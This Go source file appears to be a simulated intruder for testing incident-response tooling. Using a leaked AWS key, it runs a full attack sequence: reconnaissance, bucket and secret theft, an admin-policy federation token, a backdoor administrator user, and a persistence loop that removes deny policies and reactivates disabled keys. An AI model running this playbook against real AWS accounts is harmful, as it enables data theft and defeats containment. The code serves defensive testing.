package simulate

import (
	"context"
	"encoding/json"
	"math/rand/v2"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sts"

	"github.com/quell-ir/quell/call"
)

// Intruder works with a leaked key: looks around, steals, makes itself ways back in, and, once denied, takes off every
// deny it can reach with every credential it has.
type Intruder struct {
	victim Victim
	ctx    context.Context //nolint:containedctx // the intruder's moves are called back by the account's clock
	rng    *rand.Rand
	roads  []road
	pace   time.Duration
	quiet  bool
	extras []func()
	silent bool
	greedy bool
	// Told hears of each move, for the story.
	Told func(at time.Time, what string, err error)
	// Made are the users it made.
	Made []string
}

// road is one credential the intruder holds.
type road struct {
	name  string
	creds aws.Credentials
	// mint takes new credentials each time; nil where creds are all there is.
	mint func() (aws.Credentials, error)
}

// NewIntruder gives the leaked key to an intruder. pace is the time between two moves.
func NewIntruder(ctx context.Context, v Victim, seed int64, pace time.Duration) *Intruder {
	return &Intruder{
		victim: v, ctx: ctx, rng: rand.New(rand.NewPCG(uint64(seed), 77)), pace: pace,
		roads: []road{{name: "the leaked key", creds: v.Leaked}}, Told: func(time.Time, string, error) {},
	}
}

// Start lets the intruder move from now on, on the account's clock.
func (i *Intruder) Start() {
	script := []func(){
		i.lookAround, i.listBuckets, i.steal, i.federate, i.makeUser, i.assumeRole, i.readSecret,
	}
	at := i.victim.World.Clock().Now()
	for _, move := range script {
		i.victim.World.Clock().At(at, move)
		at = at.Add(i.jitter())
	}
	for _, move := range i.extras {
		i.victim.World.Clock().At(at, move)
		at = at.Add(i.jitter())
	}
	i.victim.World.Clock().At(at, i.persist)
}

// Stop makes the intruder go quiet.
func (i *Intruder) Stop() { i.quiet = true }

func (i *Intruder) jitter() time.Duration {
	return i.pace/2 + time.Duration(i.rng.Int64N(int64(i.pace)+1))
}

func (i *Intruder) cfg(r road) aws.Config {
	i.victim.World.Where(r.creds.AccessKeyID, intruderIP, "trufflehog")
	cfg := i.victim.World.Config(r.creds, "us-east-1")
	cfg.RetryMaxAttempts = 1
	return cfg
}

func (i *Intruder) told(what string, err error) {
	i.Told(i.victim.World.Clock().Now(), what, err)
}

func (i *Intruder) lookAround() {
	if i.quiet {
		return
	}
	cfg := i.cfg(i.roads[0])
	_, err := sts.NewFromConfig(cfg).GetCallerIdentity(i.ctx, &sts.GetCallerIdentityInput{})
	i.told("asks whose key it is", err)
	_, err = iam.NewFromConfig(cfg).ListUsers(i.ctx, &iam.ListUsersInput{})
	i.told("lists the users", err)
	_, err = iam.NewFromConfig(cfg).GetAccountAuthorizationDetails(i.ctx, &iam.GetAccountAuthorizationDetailsInput{})
	i.told("downloads every policy of the account", err)
}

func (i *Intruder) listBuckets() {
	if i.quiet {
		return
	}
	_, err := s3.NewFromConfig(i.cfg(i.roads[0])).ListBuckets(i.ctx, &s3.ListBucketsInput{})
	i.told("lists the buckets", err)
}

// steal reads every object of the bucket.
func (i *Intruder) steal() {
	if i.quiet {
		return
	}
	client := s3.NewFromConfig(i.cfg(i.roads[0]))
	out, err := client.ListObjectsV2(i.ctx, &s3.ListObjectsV2Input{Bucket: &i.victim.Bucket})
	if err != nil {
		i.told("lists "+i.victim.Bucket, err)
		return
	}
	for _, o := range out.Contents {
		got, getErr := client.GetObject(i.ctx, &s3.GetObjectInput{Bucket: &i.victim.Bucket, Key: o.Key})
		if getErr == nil {
			_ = got.Body.Close()
		}
		err = getErr
	}
	i.told("downloads the bucket "+i.victim.Bucket, err)
}

// everything is the policy of a session that shall be as mighty as its user.
const everything = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`

func (i *Intruder) federate() {
	if i.quiet {
		return
	}
	out, err := sts.NewFromConfig(i.cfg(i.roads[0])).GetFederationToken(i.ctx, &sts.GetFederationTokenInput{
		Name: aws.String("backup"), Policy: aws.String(everything), DurationSeconds: aws.Int32(129600),
	})
	i.told("takes a federation token that lives for 36 hours", err)
	if err == nil {
		c := out.Credentials
		i.roads = append(i.roads, road{name: "the federation token", creds: sessionOf(c)})
	}
}

func (i *Intruder) makeUser() {
	if i.quiet {
		return
	}
	client := iam.NewFromConfig(i.cfg(i.roads[0]))
	name := "svc-backup"
	_, err := client.CreateUser(i.ctx, &iam.CreateUserInput{UserName: &name})
	i.told("makes the user "+name, err)
	if err != nil {
		return
	}
	i.Made = append(i.Made, name)
	_, err = client.AttachUserPolicy(i.ctx, &iam.AttachUserPolicyInput{
		UserName: &name, PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess"),
	})
	i.told("makes "+name+" an administrator", err)
	key, err := client.CreateAccessKey(i.ctx, &iam.CreateAccessKeyInput{UserName: &name})
	i.told("gives "+name+" a key", err)
	if err == nil {
		i.roads = append(i.roads, road{name: "the key of " + name, creds: aws.Credentials{
			AccessKeyID: *key.AccessKey.AccessKeyId, SecretAccessKey: *key.AccessKey.SecretAccessKey,
		}})
	}
}

func (i *Intruder) assumeRole() {
	if i.quiet {
		return
	}
	i.assumeWith(i.roads[0])
}

func (i *Intruder) assumeWith(r road) {
	arn := "arn:aws:iam::" + i.victim.World.Account() + ":role/" + i.victim.Role
	out, err := sts.NewFromConfig(i.cfg(r)).AssumeRole(i.ctx, &sts.AssumeRoleInput{
		RoleArn: &arn, RoleSessionName: aws.String("backup"),
	})
	i.told("assumes the role "+i.victim.Role, err)
	if err == nil {
		c := out.Credentials
		i.roads = append(i.roads, road{name: "the role's session", creds: sessionOf(c)})
	}
}

func (i *Intruder) readSecret() {
	if i.quiet {
		return
	}
	_, err := secretsmanager.NewFromConfig(i.cfg(i.roads[0])).GetSecretValue(i.ctx, &secretsmanager.GetSecretValueInput{SecretId: &i.victim.Secret})
	i.told("reads the secret prod/db", err)
}

// persist is what an intruder does for as long as it is there: tries every road, and with those that still go takes
// off what holds the others.
func (i *Intruder) persist() {
	if i.quiet {
		return
	}
	clock := i.victim.World.Clock()
	defer func() { clock.At(clock.Now().Add(i.jitter()), i.persist) }()
	r := i.roads[i.rng.IntN(len(i.roads))]
	if r.mint != nil {
		var err error
		if r.creds, err = r.mint(); err != nil {
			i.told("tries "+r.name, err)
			return
		}
	}
	if i.silent {
		i.readOnly(r)
		return
	}
	cfg := i.cfg(r)
	_, err := s3.NewFromConfig(cfg).ListBuckets(i.ctx, &s3.ListBucketsInput{})
	i.told("tries "+r.name+": lists the buckets", err)
	_, err = s3.NewFromConfig(cfg).GetObject(i.ctx, &s3.GetObjectInput{Bucket: &i.victim.Bucket, Key: aws.String("2026/customers-00.csv")})
	i.told("tries "+r.name+": reads a file", err)
	if i.greedy && len(i.roads) < 12 {
		i.assumeWith(r)
	}
	for _, user := range append([]string{i.victim.User}, i.Made...) {
		i.strip(cfg, r, user)
	}
}

// strip takes every deny off a user, and switches its keys on again.
func (i *Intruder) strip(cfg aws.Config, r road, user string) {
	client := iam.NewFromConfig(cfg)
	inline, err := client.ListUserPolicies(i.ctx, &iam.ListUserPoliciesInput{UserName: &user})
	if err != nil {
		return
	}
	for _, name := range inline.PolicyNames {
		got, err := client.GetUserPolicy(i.ctx, &iam.GetUserPolicyInput{UserName: &user, PolicyName: &name})
		if err != nil || !denies(got.PolicyDocument) {
			continue
		}
		_, err = client.DeleteUserPolicy(i.ctx, &iam.DeleteUserPolicyInput{UserName: &user, PolicyName: &name})
		i.told("takes the deny off "+user+" with "+r.name, err)
	}
	if attached, err := client.ListAttachedUserPolicies(i.ctx, &iam.ListAttachedUserPoliciesInput{UserName: &user}); err == nil {
		for _, p := range attached.AttachedPolicies {
			if aws.ToString(p.PolicyName) == "AWSDenyAll" {
				_, err = client.DetachUserPolicy(i.ctx, &iam.DetachUserPolicyInput{UserName: &user, PolicyArn: p.PolicyArn})
				i.told("detaches AWSDenyAll from "+user, err)
			}
		}
	}
	keys, err := client.ListAccessKeys(i.ctx, &iam.ListAccessKeysInput{UserName: &user})
	if err != nil {
		return
	}
	for _, k := range keys.AccessKeyMetadata {
		if k.Status == iamtypes.StatusTypeInactive {
			_, err = client.UpdateAccessKey(i.ctx, &iam.UpdateAccessKeyInput{UserName: &user, AccessKeyId: k.AccessKeyId, Status: iamtypes.StatusTypeActive})
			i.told("switches a key of "+user+" on again", err)
		}
	}
}

// denies says whether a policy document holds a deny.
func denies(document *string) bool {
	plain, err := call.PolicyText(aws.ToString(document))
	if err != nil {
		return false
	}
	var doc struct {
		Statement []struct{ Effect string }
	}
	if json.Unmarshal(plain, &doc) != nil {
		return false
	}
	for _, s := range doc.Statement {
		if s.Effect == "Deny" {
			return true
		}
	}
	return false
}
